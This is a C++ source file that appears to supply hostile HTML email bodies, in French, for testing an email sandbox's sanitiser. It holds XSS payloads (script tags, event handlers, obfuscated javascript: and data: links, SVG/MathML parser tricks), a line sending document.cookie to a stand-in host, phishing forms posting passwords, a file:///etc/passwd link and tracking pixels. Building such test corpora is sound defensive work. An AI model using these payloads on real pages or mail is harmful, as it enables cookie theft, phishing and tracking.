// SPDX-FileCopyrightText: 2026 Ran.AI
// SPDX-License-Identifier: GPL-3.0-or-later

#include "services/sandbox/dataset/mailhostile.h"

namespace atlas::sandbox::dataset
{
using namespace Qt::Literals::StringLiterals;

namespace
{
QList<HostileBody> runningBodies()
{
    return {
        {u"script"_s, u"Service client"_s, u"service@espace-clients.example"_s, u"Votre dossier a été mis à jour"_s,
         uR"x(<p>Bonjour,</p><script>document.location='https://piege.example/vol?c='+document.cookie</script>
<SCRIPT SRC="https://piege.example/a.js"></SCRIPT ><scr<script>ipt>alert(1)</scr</script>ipt>
<noscript><img src="https://piege.example/noscript.gif"></noscript><p>Votre dossier est à jour.</p>)x"_s},
        {u"event-handlers"_s, u"Photos partagées"_s, u"photos@partage-facile.example"_s, u"3 photos pour vous"_s,
         uR"x(<body onload="alert(1)"><img src=x onerror=alert(2)><img/src="x"/onerror="alert(3)">
<div onmouseover='alert(4)' OnClick = alert(5) onpointerenter&#61;"alert(6)">Survolez les photos</div>
<input autofocus onfocus=alert(7)><video><source onerror="alert(8)"></video><details open ontoggle=alert(9)>x</details>
<marquee onstart=alert(10)>Nouveau</marquee></body>)x"_s},
        {u"javascript-links"_s, u"Newsletter Jeux"_s, u"jeux@jeux-gratuits.example"_s, u"Cliquez pour jouer"_s,
         uR"x(<a href="javascript:alert(1)">un</a> <a href="JaVaScRiPt:alert(2)">deux</a>
<a href=" &#14; javascript:alert(3)">trois</a> <a href="java&#x09;script:alert(4)">quatre</a>
<a href="java
script:alert(5)">cinq</a> <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(6)">six</a>
<a href="javascript&colon;alert(7)">sept</a> <a href="vbscript:msgbox(8)">huit</a> <a href="livescript:x">neuf</a>
<a href="&#0000106avascript:alert(10)">dix</a> <a xlink:href="javascript:alert(11)">onze</a>
<img src="javascript:alert(12)"><a href="file:///etc/passwd">treize</a> <a href="smb://piege.example/x">quatorze</a>)x"_s},
        {u"data-links"_s, u"Documents"_s, u"documents@depot.example"_s, u"Document à consulter"_s,
         uR"x(<a href="data:text/html,<script>alert(1)</script>">Ouvrir</a>
<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Télécharger</a>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(2)'/%3E">
<a href="blob:https://piege.example/1">Aperçu</a> <a href="feed:javascript:alert(3)">Flux</a>
<a href="view-source:https://piege.example/">Source</a>)x"_s},
        {u"svg-script"_s, u"Logo"_s, u"studio@logos-express.example"_s, u"Votre nouveau logo en SVG"_s,
         uR"x(<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60"><script>alert(1)</script>
<a xlink:href="javascript:alert(2)"><circle r="30"/></a><animate onbegin=alert(3) attributeName=x dur=1s />
<set attributeName="href" to="javascript:alert(4)"/><use href="https://piege.example/s.svg#x"/>
<image href="https://piege.example/svg.gif"/><foreignObject><body onload="alert(5)"/></foreignObject></svg>)x"_s},
        {u"mathml"_s, u"Cours en ligne"_s, u"cours@maths-faciles.example"_s, u"L'exercice de la semaine"_s,
         uR"x(<math><maction actiontype="statusline#https://piege.example/">x<mtext href="javascript:alert(1)">clic</mtext>
</maction><mi//xlink:href="javascript:alert(2)">y</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(3)>
</annotation-xml></math><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(4)&gt;">)x"_s},
        {u"template"_s, u"Formulaires"_s, u"outils@modeles-web.example"_s, u"Votre modèle gratuit"_s,
         uR"x(<template><template><script>alert(1)</script></template><img src=x onerror=alert(2)></template>
<div><template shadowrootmode="open"><img src=x onerror=alert(3)></template></div>
<noembed><img title="</noembed><img src=x onerror=alert(4)>"></noembed><xmp><p title="</xmp><svg onload=alert(5)>"></xmp>
<plaintext><b>fin</b>)x"_s},
    };
}

QList<HostileBody> loadingBodies()
{
    return {
        {u"iframe"_s, u"Cartes et plans"_s, u"plans@cartes.example"_s, u"Plan d'accès à notre nouveau siège"_s,
         uR"x(<p>Notre plan :</p><iframe src="https://piege.example/cadre" width=1 height=1></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><frameset><frame src="javascript:alert(2)"></frameset>
<p>À bientôt.</p>)x"_s},
        {u"object-embed"_s, u"Catalogue 3D"_s, u"catalogue@vitrine3d.example"_s, u"Visite virtuelle"_s,
         uR"x(<object data="https://piege.example/lecteur.swf" type="application/x-shockwave-flash"><param name=movie
value="https://piege.example/lecteur.swf"></object><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<applet code="Piege.class" codebase="https://piege.example/"></applet><portal src="https://piege.example/"></portal>)x"_s},
        {u"form"_s, u"Sécurité du compte"_s, u"securite@compte-verif.example"_s, u"Confirmez votre mot de passe"_s,
         uR"x(<form action="https://piege.example/collecte" method=post><p>Session expirée</p>
<input name=login value=""><input type=password name=mdp><button formaction="https://piege.example/autre">Valider</button>
</form><input form=x type=image src="https://piege.example/bouton.png"><select autofocus><option>1</select>
<textarea></textarea><isindex action="javascript:alert(1)">)x"_s},
        {u"meta-refresh"_s, u"Fil d'actualité"_s, u"fil@actu-direct.example"_s, u"À lire maintenant"_s,
         uR"x(<meta http-equiv="refresh" content="0;url=https://piege.example/"><META HTTP-EQUIV=Refresh
CONTENT="0; URL=javascript:alert(1)"><meta http-equiv="Set-Cookie" content="a=b"><link rel="prefetch"
href="https://piege.example/p"><link rel=stylesheet href="https://piege.example/s.css"><link rel="dns-prefetch"
href="//suivi.piege.example"><p>Chargement…</p>)x"_s},
        {u"style-expression"_s, u"Mode d'automne"_s, u"mode@boutique-mode.example"_s, u"La collection est arrivée"_s,
         uR"x(<style>@import "https://piege.example/i.css"; body{behavior:url(https://piege.example/b.htc)}
p{width:expression(alert(1));-moz-binding:url(https://piege.example/x.xml#a)} </style>
<div style="background:url(javascript:alert(2));width:e/**/xpression(alert(3))">Vestes</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:.01">
<a href="https://piege.example/clic">x</a></div>)x"_s},
        {u"css-url"_s, u"Météo du matin"_s, u"matin@meteo-locale.example"_s, u"Temps prévu demain"_s,
         uR"x(<style>@font-face{font-family:t;src:url("https://piege.example/t.woff2")}
@media screen{.a{background-image:u\72l(https://piege.example/1.gif)}} .b{list-style:url('//piege.example/2.gif')}
.c{content:url(https://piege.example/3.gif)} .d{cursor:url(https://piege.example/4.cur),auto}
input[value^="a"]{background:url(https://piege.example/5?a)} </style><table background="https://piege.example/6.gif">
<tr><td class=a style="background-image:image-set('https://piege.example/7.gif' 1x);filter:url(https://piege.example/8#f)">
Ensoleillé</td></tr></table>)x"_s},
        {u"srcset"_s, u"Voyages"_s, u"evasion@voyages-soleil.example"_s, u"Évadez-vous ce week-end"_s,
         uR"x(<img src="cid:rien@voyages" srcset="https://piege.example/1x.jpg 1x, https://piege.example/2x.jpg 2x">
<picture><source srcset="https://piege.example/p.webp"><img lowsrc="https://piege.example/l.gif"
dynsrc="https://piege.example/d.avi"></picture><video poster="https://piege.example/v.jpg" src="https://piege.example/v.mp4"
autoplay></video><audio src="https://piege.example/a.mp3" autoplay></audio><track src="https://piege.example/t.vtt">
<bgsound src="https://piege.example/b.wav"><body background="//piege.example/fond.gif">)x"_s},
    };
}
} // namespace

const QList<HostileBody> &hostileBodies()
{
    static const QList<HostileBody> all = activeBodies() + deceivingBodies();
    return all;
}

QList<HostileBody> activeBodies()
{
    return runningBodies() + loadingBodies();
}
} // namespace atlas::sandbox::dataset
